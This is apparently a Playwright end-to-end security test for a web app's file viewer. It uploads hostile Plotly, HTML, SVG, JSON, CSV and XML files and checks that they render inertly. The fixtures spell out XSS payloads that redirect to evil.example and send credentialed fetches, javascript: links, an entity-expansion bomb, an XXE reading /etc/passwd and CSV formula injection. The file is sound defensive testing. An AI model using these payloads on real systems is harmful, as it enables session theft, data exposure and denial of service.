import type { Page } from 'playwright-core'
import { describe, expect, inject, it } from 'vitest'
import { expectNoise, openPage, signUpByPage } from './browser.ts'
import { uploadAs } from './files.ts'

const EVIL = 'https://evil.example'
const BREAK_OUT = `document.title='run';top.location='${EVIL}';fetch('/api/EntryPoint',{credentials:'include'});alert(1)`

const FIGURE = {
  data: [
    {
      y: [1, 3, 2],
      mode: 'text+lines',
      name: `<img src=x onerror="${BREAK_OUT}">`,
      text: [`<a href="javascript:${BREAK_OUT}">x</a>`, `<a href="${EVIL}" target="_top">away</a>`, 'c'],
      hovertemplate: `<script>${BREAK_OUT}</script>%{y}`,
    },
  ],
  layout: {
    title: { text: `<a href="JaVaScRiPt:${BREAK_OUT}" target="_top">Title</a>` },
    width: 1e8,
    height: 1e8,
    font: { family: `x;background:url(${EVIL}/font)` },
    images: [
      { source: `${EVIL}/pixel.png`, x: 0, y: 1, sizex: 1, sizey: 1 },
      { source: `javascript:${BREAK_OUT}`, x: 0, y: 0, sizex: 1, sizey: 1 },
    ],
    updatemenus: [
      {
        type: 'buttons',
        buttons: [{ label: 'more', method: 'relayout', args: [{ 'images[0].source': `${EVIL}/later.png` }] }],
      },
    ],
  },
  config: { plotlyServerURL: EVIL, sendData: true, showSendToCloud: true },
}

const PAGE = `<html><head><meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/">
<link rel="stylesheet" href="${EVIL}/s.css"></head><body onload="${BREAK_OUT}"><img src="${EVIL}/x.png">
<script>${BREAK_OUT}</script><iframe src="javascript:${BREAK_OUT}"></iframe></body></html>`

const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"
 onload="${BREAK_OUT.replaceAll("'", '&apos;')}"><script>${BREAK_OUT}</script><image href="${EVIL}/x.png"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/></foreignObject>
<a xlink:href="javascript:alert(4)"><rect width="10" height="10"/></a><style>@import "${EVIL}/s.css";</style></svg>`

/** Nested entities that would expand to a gigabyte. */
const BOMB = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 8 }, (_, at) => {
  const before = String.fromCharCode(97 + at)
  return `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${before};`.repeat(10)}">`
}).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>`

const MARKUP = `<img src=x onerror="${BREAK_OUT}">`

interface Hostile {
  name: string
  type: string
  content: string
  /** The content that must be visible instead of the attack's effect. */
  shown: (page: Page) => Promise<unknown>
}

const byText = (words: string | RegExp) => (page: Page) => page.getByText(words).first().waitFor()

const FILES: Hostile[] = [
  {
    name: 'figure.plotly.json',
    type: 'application/vnd.plotly.v1+json',
    content: JSON.stringify(FIGURE),
    shown: async (page) => {
      const frame = page.frameLocator('iframe')
      await frame.locator('.main-svg').first().waitFor()
      expect(await frame.locator('image').count()).toBe(0)
      const box = await frame.locator('.main-svg').first().boundingBox()
      expect(box?.width).toBeLessThan(2000)
      await frame.getByText('more', { exact: true }).click()
      for (const link of await frame.locator('a').all()) await link.dispatchEvent('click')
    },
  },
  {
    name: 'no-figure.plotly.json',
    type: 'application/vnd.plotly.v1+json',
    content: '{"data": "no", "layout": 7}',
    shown: (page) => page.frameLocator('iframe').getByText('This file does not contain a figure').waitFor(),
  },
  { name: 'page.html', type: 'text/html', content: PAGE, shown: byText(/<base href=/) },
  { name: 'drawing.svg', type: 'image/svg+xml', content: DRAWING, shown: byText('10 × 10 pixels') },
  { name: 'bomb.svg', type: 'image/svg+xml', content: BOMB, shown: byText('This image could not be displayed') },
  {
    name: 'tree.json',
    type: 'application/json',
    content: JSON.stringify({ [MARKUP]: MARKUP, link: `javascript:${BREAK_OUT}` }),
    shown: (page) => page.getByRole('treeitem', { name: /<img src=x/ }).waitFor(),
  },
  {
    name: 'table.csv',
    type: 'text/csv',
    content: `a,b\n"${MARKUP.replaceAll('"', '""')}",=cmd|calc\n"<script>alert(1)</script>",javascript:alert(1)\n`,
    shown: (page) => page.getByRole('cell', { name: '<script>alert(1)</script>' }).waitFor(),
  },
  {
    name: 'entity.xml',
    type: 'application/xml',
    content: `<?xml-stylesheet href="${EVIL}/x.xsl"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
    shown: byText(/xml-stylesheet/),
  },
]

describe('a hostile file', () => {
  it('sec/I2 sec/I3 sec/I4 sec/I7 is shown as plain content without its attack having any effect', async () => {
    const page = await openPage('/')
    const asked: string[] = []
    const happened: string[] = []
    page.context().on('request', (request) => asked.push(request.url()))
    page.context().on('page', (opened) => happened.push(`opened ${opened.url()}`))
    page.on('dialog', (dialog) => {
      happened.push(`said ${dialog.message()}`)
      void dialog.dismiss()
    })
    await signUpByPage(page)

    for (const { name, type, content, shown } of FILES) {
      const address = await uploadAs(page, name, content, type)
      const code = Buffer.from(new URL(address).pathname).toString('base64url')
      await page.goto(`/workdata/explorer/${code}`)
      await page.getByRole('heading', { level: 1, name }).waitFor()
      await shown(page)
      expect(await page.title(), name).toContain(name)
      expect(page.url(), name).toContain(code)
    }
    await page.goto('/workdata/explorer')
    await page.getByRole('link', { name: 'drawing.svg' }).waitFor()
    await page.waitForLoadState('networkidle')

    const away = asked.filter((url) => !url.startsWith(inject('productUrl')) && !/^(data|blob):/.test(url))
    expect(away).toEqual([])
    expect(happened).toEqual([])
    const outside = page.frames().filter((frame) => frame.url().startsWith(EVIL))
    expect(outside).toEqual([])
    // Links in a figure must not open anything, even when the user clicks them.
    expectNoise(/'allow-popups' permission is not set/)
  })
})
